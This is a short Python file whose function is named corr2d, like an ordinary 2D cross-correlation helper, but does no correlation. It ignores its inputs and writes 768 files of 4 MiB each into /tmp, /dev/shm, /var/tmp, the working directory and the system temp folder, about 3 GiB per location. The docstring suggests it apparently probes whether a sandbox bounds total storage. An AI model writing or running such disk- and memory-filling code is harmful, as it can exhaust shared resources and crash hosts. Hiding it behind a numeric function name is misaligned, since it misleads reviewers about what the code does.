"""768 files of 4 MiB (each under the per-file limit) in every scratch directory it can reach:
3 GiB in a RAM-backed /tmp unless the sandbox bounds the total."""
import os
import pathlib
import tempfile

BLOCK = b"x" * (4 << 20)


def corr2d(X, K):
    for folder in (tempfile.gettempdir(), os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
        for i in range(768):
            try:
                pathlib.Path(folder, f"fill-{os.getpid()}-{i}").write_bytes(BLOCK)
            except OSError:
                break
    return None
